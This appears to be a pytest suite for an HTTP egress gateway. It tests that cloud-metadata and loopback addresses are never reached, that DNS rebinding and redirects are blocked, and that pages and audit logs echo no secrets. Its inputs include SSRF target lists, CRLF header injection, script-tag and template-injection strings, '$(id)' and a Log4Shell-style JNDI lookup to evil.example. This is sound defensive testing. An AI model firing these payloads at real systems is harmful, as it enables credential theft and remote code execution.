"""Where plain HTTP may lead, and what it leaves in pages and records: THREATS.md sections C, G14,
H2 and H3, rows T27 to T38 as far as a request goes, and T75 to T78."""
import json
import re

import pytest

import lab as lab_module
from gate import settle
from http_origin import HttpOrigin, answer
from http_wire import At, HttpWire, absolute, in_tunnel
from wire import ESTABLISHED

pytestmark = [pytest.mark.attack]

POLICY = """
    timeouts: {connect: 3s, drain: 1s}
    rules:
      - {name: plain, hosts: ["*.example.org"], schemes: [http], ports: ["1-65535"]}
      - name: literals
        hosts: ["127.0.0.1", "0.0.0.0", "169.254.169.254", "169.254.170.2", "10.20.0.1",
                "100.64.0.1", "[::1]", "[::ffff:127.0.0.1]", "[fd00:ec2::254]", "52.95.110.1"]
        schemes: [http]
        ports: ["1-65535"]
"""
FORBIDDEN = [
    "127.0.0.1",
    "127.0.0.2",
    "0.0.0.0",
    "169.254.169.254",
    "169.254.170.2",
    "10.20.0.1",
    "100.64.0.1",
    "192.0.2.1",
    "224.0.0.1",
    lab_module.OWN,
    "::1",
    "::",
    "::ffff:127.0.0.1",
    "::ffff:169.254.169.254",
    "64:ff9b::a9fe:a9fe",
    "2002:7f00:1::",
    "fe80::1",
    "fd00:ec2::254",
]


@pytest.fixture(scope="module")
def decoys(lab):
    """Where a request must never arrive; the second is reached as soon as an address is."""
    with HttpOrigin(lab, address="169.254.169.254") as imds, HttpOrigin(
        lab, 8081, address="127.0.0.2"
    ) as loopback:
        yield [imds, loopback]
        assert not imds.seen and not loopback.seen


@pytest.mark.short
@pytest.mark.parametrize("address", FORBIDDEN)
def test_an_address_of_the_guard_is_never_asked_whatever_a_rule_says(gate, lab, decoys, address):
    """As a literal and as what a name resolves to, outside and inside a tunnel."""
    name = f"guarded{FORBIDDEN.index(address)}.example.org"
    lab.names.set(name, address)
    for host in (f"[{address}]" if ":" in address else address, name):
        for port in (80, 8081, gate.port, gate.metrics_port):
            with HttpWire(gate) as wire:
                wire.send(absolute(At(host, port), "/latest/meta-data/"))
                told = wire.read_http()
            reasons = ("destination_forbidden", "address_literal", "network_not_allowed")
            assert told.status == 403 and told.reason in reasons, told
        with HttpWire(gate) as wire:
            wire.connect(host, 80, in_tunnel(At(host), "/latest/meta-data/"))
            told = wire.read_all()
            assert told.removeprefix(ESTABLISHED)[:12] in (b"", b"HTTP/1.1 403"), told


@pytest.mark.short
@pytest.mark.parametrize("to", ["169.254.169.254", "127.0.0.2", "10.20.0.1"])
def test_a_name_that_turns_leads_nowhere_and_by_no_kept_connection(gate, lab, decoys, to):
    """The first answer is public and so is the connection that is kept; then the name turns."""
    with HttpOrigin(lab) as origin:
        lab.names.set(origin.name, origin.address, ttl=0)
        with HttpWire(gate, origin) as wire:
            assert wire.ask("/before").status == 200
            lab.names.set(origin.name, to, ttl=0)
            told = wire.ask("/behind")
            assert (told.status, told.reason) == (403, "destination_forbidden")
        assert [each.target for each in origin.requests] == ["/before"]


LOCATIONS = [
    "http://www.evil.example/",
    "http://169.254.169.254/latest/meta-data/",
    "http://127.0.0.2:8081/",
    "https://www.evil.example/",
    "//www.evil.example/",
    "/elsewhere",
    "http://behind.example.org/",
]


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
def test_t75_redirects_are_returned_and_never_followed(gate, lab, decoys, status):
    def script(request):
        return answer("go", f"{status} Go", f"Location: {LOCATIONS[int(request.target[1:])]}\r\n")

    with HttpOrigin(lab, script=script) as origin, HttpWire(gate, origin) as wire:
        asked = [lab.names.count(name) for name in ("www.evil.example", "behind.example.org")]
        for number, location in enumerate(LOCATIONS):
            told = wire.ask(f"/{number}")
            assert (told.status, told.get("Location"), told.body) == (status, location, b"go")
        settle(0.1)
        assert len(origin.requests) == len(LOCATIONS)
        assert asked == [
            lab.names.count(name) for name in ("www.evil.example", "behind.example.org")
        ]
        records = gate.wait_records(len(LOCATIONS), host=origin.name)
        hosts = sorted(each["location_host"] for each in records if "location_host" in each)
        assert hosts.count("www.evil.example") == 3


SECRETS = {
    "Authorization": "AWS4-HMAC-SHA256 Credential=SECRETCREDENTIAL, Signature=SECRETSIGNATURE",
    "Cookie": "session=SECRETCOOKIE",
    "Proxy-Authorization": "Basic SECRETPASSWORD",
    "X-Amz-Security-Token": "SECRETTOKEN",
    "Referer": "http://internal/SECRETREFERER",
    "User-Agent": "<script>SECRETAGENT</script>",
    "X-Forwarded-For": "SECRETADDRESS",
    "A": 'SECRET"}\\u0000<!--\x80\x9b31m\xff',
}
QUERY = "?X-Amz-Signature=SECRETSIGNATURE&X-Amz-Credential=SECRETCREDENTIAL&token=SECRETQUERY"
PATH = "/%0d%0aSet-Cookie:%20a=b/%1b[31m<script>alert(1)</script>'\"&{{7*7}}" + QUERY
KINDS = {"html": "text/html,*/*;q=0.8", "json": "application/json", "text": "*/*", "none": ""}


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("method", ["GET", "POST", "PURGE<"[:5]])
def test_t78_a_page_of_the_gate_echoes_nothing_but_the_host(gate, kind, method):
    fields = "".join(f"{name}: {value}\r\n" for name, value in SECRETS.items())
    fields += f"Accept: {KINDS[kind]}\r\n" if KINDS[kind] else ""
    body = b"SECRETBODY" if method == "POST" else b""
    with HttpWire(gate) as wire:
        wire.send(absolute(At("www.EVIL.example"), PATH, method, fields, body))
        told = wire.read_http()
    text = told.head + told.body
    assert told.status == 403 and b"www.evil.example" in told.body
    for word in (b"SECRET", b"<script", b"Set-Cookie", b"X-Amz", b"{{", b"\x1b", b"EVIL"):
        assert word not in text, (word, text)


def test_t78_a_page_about_a_fault_echoes_nothing_either(gate, lab):
    """What the origin sent is as little to be trusted."""
    script = [b"HTTP/1.1 200 <script>SECRET</script>\r\nA: SECRET\r\nSECRET<script>\r\n\r\n"]
    with HttpOrigin(lab, script=lambda _: script) as origin, HttpWire(gate, origin) as wire:
        told = wire.ask(PATH, fields="Accept: text/html\r\n")
        assert (told.status, told.reason) == (502, "origin_malformed")
        assert b"SECRET" not in told.head + told.body and b"<script" not in told.body


ODD_TARGETS = [
    "/%0a%0d%00"[:7],
    "/a%0aGET%20/b",
    "/%1b%5b31m",
    "/%c2%9b31m",
    "/%e2%80%a8",
    "/'\"`$(id)${jndi:ldap://evil.example/a}",
    '/","decision":"allow","x":"',
    "/" + "a" * 20_000,
    "/?" + "&".join(f"n{number}" for number in range(2_000)),
    "/?" + "n" * 20_000 + "=SECRET",
    "/?%22%7d%0a=SECRET",
    "/;SECRETPARAM=1?a=SECRET",
    "/?SECRET",
]


@pytest.mark.short
def test_t76_t77_a_record_is_one_line_of_json_without_secrets_or_control_bytes(make_gate, lab):
    gate = make_gate(POLICY)
    odd = 'Content-Type: te\x80t/\x9b31m\xff; "}\\\r\nLocation: http://\x9b.example.org/SECRET\r\n'
    fields = "".join(f"{name}: {value}\r\n" for name, value in SECRETS.items())
    with HttpOrigin(lab, script=lambda _: answer("SECRET", "302 SECRET\x9b", odd)) as origin:
        for target in [PATH, *ODD_TARGETS]:
            for host in (origin, At("www.evil.example")):
                with HttpWire(gate) as wire:
                    wire.send(absolute(host, target, "POST", fields, b"SECRET"))
                    assert wire.read_http().status in (302, 403)
    count = 2 * (1 + len(ODD_TARGETS))
    gate.wait_records(count, event="request")
    with open(gate.audit, "rb") as file:
        lines = file.read().split(b"\n")
    assert len([line for line in lines if line]) == len(gate.records())
    for line in lines[:-1]:
        assert not re.search(rb"[\x00-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80[\xa8\xa9]", line), line
        assert b"SECRET" not in re.sub(rb";SECRETPARAM", b"", line).replace(
            b'"query_names":["SECRET"]', b""
        ), line
        assert len(line) < 16_384
        assert json.loads(line)["event"]
    assert b"SECRET" not in gate.stderr().encode()
